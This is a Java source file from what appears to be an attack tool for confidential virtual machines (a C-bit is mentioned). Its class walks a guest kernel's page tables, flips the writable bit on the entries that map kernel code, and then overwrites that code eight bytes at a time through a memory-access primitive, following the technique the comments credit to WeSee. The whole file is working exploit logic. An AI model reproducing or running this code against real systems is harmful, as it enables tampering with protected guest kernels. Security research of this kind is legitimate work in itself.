package dev.vesper.cli.attack;

import dev.vesper.cli.attack.KernelAccess.Operation;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import java.util.function.LongConsumer;
import org.jspecify.annotations.Nullable;

/**
 * Kernel code overwritten by writes of eight bytes: its pages are made writable in the kernel's own
 * page tables first, as WeSee does it. A processor that still has the old translation faults once,
 * and the kernel takes the fault for a spurious one.
 */
final class KernelCode implements KernelAccess.Plan {
  private static final long PRESENT_LARGE = 1 << 7;
  private static final long WRITABLE = 1 << 1;

  /** Bits of an entry that are an address. */
  private static final long FRAME = 0x000F_FFFF_FFFF_F000L;

  private record Step(Operation operation, LongConsumer then) {}

  private final long kernelMap;
  private final long level2;
  private final long directMap;
  private final long addressBits;
  private final Deque<Step> steps = new ArrayDeque<>();
  private @Nullable Step current;
  private int written;

  /**
   * @param kernelMap linear address of what the first entry of the table maps
   * @param level2 linear address of the page table of the kernel's image, level 2
   * @param directMap linear address of the kernel's variable that has the address of its mapping of
   *     all memory
   * @param cBit number of the C-bit
   */
  KernelCode(long kernelMap, long level2, long directMap, int cBit) {
    this.kernelMap = kernelMap;
    this.level2 = level2;
    this.directMap = directMap;
    addressBits = FRAME & ~(1L << cBit);
  }

  /** Has bytes written over code, behind what is to be written already. */
  void write(long address, byte[] code) {
    assert code.length % 8 == 0 : code.length;
    long last = -1;
    for (int i = 0; i < code.length; i += 8) {
      long at = address + i;
      if (at >>> 12 != last) {
        last = at >>> 12;
        unlock(at);
      }
      long value = 0;
      for (int k = 7; k >= 0; k--) {
        value = value << 8 | code[i + k] & 0xFF;
      }
      steps.add(new Step(Operation.write(at, value), v -> written++));
    }
  }

  /** {@return how many times eight bytes of code were written} */
  int written() {
    return written;
  }

  private void unlock(long at) {
    long entry = level2 + (at - kernelMap >>> 21) * 8;
    steps.add(new Step(Operation.read(entry), v -> unlock(at, entry, v)));
  }

  private void unlock(long at, long entry, long value) {
    if ((value & PRESENT_LARGE) != 0) {
      makeWritable(entry, value);
      return;
    }
    // What is found on the way is done before what was planned behind it.
    steps.addFirst(
        new Step(
            Operation.read(directMap),
            base -> {
              long small = base + (value & addressBits) + (at >>> 12 & 0x1FF) * 8;
              steps.addFirst(new Step(Operation.read(small), v -> makeWritable(small, v)));
            }));
  }

  private void makeWritable(long entry, long value) {
    if ((value & WRITABLE) == 0) {
      steps.addFirst(new Step(Operation.write(entry, value | WRITABLE), v -> {}));
    }
  }

  @Override
  public @Nullable Operation next(long leaked, List<Long> results) {
    if (current != null) {
      current.then.accept(results.getLast());
    }
    current = steps.poll();
    return current == null ? null : current.operation;
  }
}
